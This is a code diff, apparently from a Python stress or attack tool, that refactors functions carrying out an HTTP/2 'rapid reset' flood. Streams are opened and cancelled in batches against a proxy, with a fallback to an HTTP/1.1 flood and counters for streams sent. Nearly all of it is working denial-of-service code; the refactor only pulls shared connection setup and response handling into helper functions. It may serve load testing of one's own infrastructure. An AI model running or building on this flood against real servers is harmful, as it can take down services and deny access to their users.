@@ -124,24 +124,59 @@ def drain(sock: ssl.SSLSocket) -> bytes:
     return bytes(out)
 
 
-def h2_reset(target: Target, stats: Stats, until: float) -> None:
+def h2_open(
+    target: Target, stats: Stats, until: float
+) -> tuple[ssl.SSLSocket, h2.connection.H2Connection] | None:
+    """A tunnel speaking HTTP/2 as a client, its preface sent; None when the proxy
+    refused the CONNECT or chose HTTP/1.1 (then this worker floods HTTP/1.1 instead,
+    until ``until``)."""
     raw = connect(target, stats)
     if raw is None:
-        return
+        return None
     sock = tls(target, raw, "h2", "http/1.1")
     if sock.selected_alpn_protocol() != "h2":
         stats.add("h2_refused")
-        return h1_flood(sock, target, stats, until)
+        h1_flood(sock, target, stats, until)
+        return None
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    return sock, conn
+
+
+def flood_headers(target: Target) -> list[tuple[str, str]]:
+    return [
+        (":method", "GET"),
+        (":scheme", "https"),
+        (":authority", target.host),
+        (":path", "/flood"),
+    ]
+
+
+def h2_feed(sock: ssl.SSLSocket, conn: h2.connection.H2Connection) -> bool:
+    """Feed what the proxy sent to the state machine and answer it (settings, pings);
+    False once the proxy broke the protocol, ConnectionError on its GOAWAY."""
+    incoming = drain(sock)
+    if incoming:
+        try:
+            events = conn.receive_data(incoming)
+        except h2.exceptions.ProtocolError:
+            return False
+        if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
+            raise ConnectionError("GOAWAY from the proxy")
+        out = conn.data_to_send()
+        if out:
+            sock.sendall(out)
+    return True
+
+
+def h2_reset(target: Target, stats: Stats, until: float) -> None:
+    opened = h2_open(target, stats, until)
+    if opened is None:
+        return
+    sock, conn = opened
+    headers = flood_headers(target)
     with sock:
-        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        conn.initiate_connection()
-        sock.sendall(conn.data_to_send())
-        headers = [
-            (":method", "GET"),
-            (":scheme", "https"),
-            (":authority", target.host),
-            (":path", "/flood"),
-        ]
         while time.monotonic() < until:
             for _ in range(50):
                 sid = conn.get_next_available_stream_id()
@@ -149,38 +184,18 @@ def h2_reset(target: Target, stats: Stats, until: float) -> None:
                 conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
             sock.sendall(conn.data_to_send())
             stats.add("streams", 50)
-            incoming = drain(sock)
-            if incoming:
-                try:
-                    events = conn.receive_data(incoming)
-                except h2.exceptions.ProtocolError:
-                    return
-                if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
-                    raise ConnectionError("GOAWAY from the proxy")
-                out = conn.data_to_send()
-                if out:
-                    sock.sendall(out)
+            if not h2_feed(sock, conn):
+                return
 
 
 def h2_streams(target: Target, stats: Stats, until: float) -> None:
     """Rapid reset in two writes: the proxy sees each stream open before its reset."""
-    raw = connect(target, stats)
-    if raw is None:
+    opened_conn = h2_open(target, stats, until)
+    if opened_conn is None:
         return
-    sock = tls(target, raw, "h2", "http/1.1")
-    if sock.selected_alpn_protocol() != "h2":
-        stats.add("h2_refused")
-        return h1_flood(sock, target, stats, until)
+    sock, conn = opened_conn
+    headers = flood_headers(target)
     with sock:
-        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        conn.initiate_connection()
-        sock.sendall(conn.data_to_send())
-        headers = [
-            (":method", "GET"),
-            (":scheme", "https"),
-            (":authority", target.host),
-            (":path", "/flood"),
-        ]
         while time.monotonic() < until:
             opened = []
             for _ in range(90):  # under the proxy's 100 concurrent streams
@@ -193,17 +208,8 @@ def h2_streams(target: Target, stats: Stats, until: float) -> None:
                     conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
             sock.sendall(conn.data_to_send())
             stats.add("streams", len(opened))
-            incoming = drain(sock)
-            if incoming:
-                try:
-                    events = conn.receive_data(incoming)
-                except h2.exceptions.ProtocolError:
-                    return
-                if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
-                    raise ConnectionError("GOAWAY from the proxy")
-                out = conn.data_to_send()
-                if out:
-                    sock.sendall(out)
+            if not h2_feed(sock, conn):
+                return
 
 
 def h1_requests(target: Target, stats: Stats, until: float) -> None:
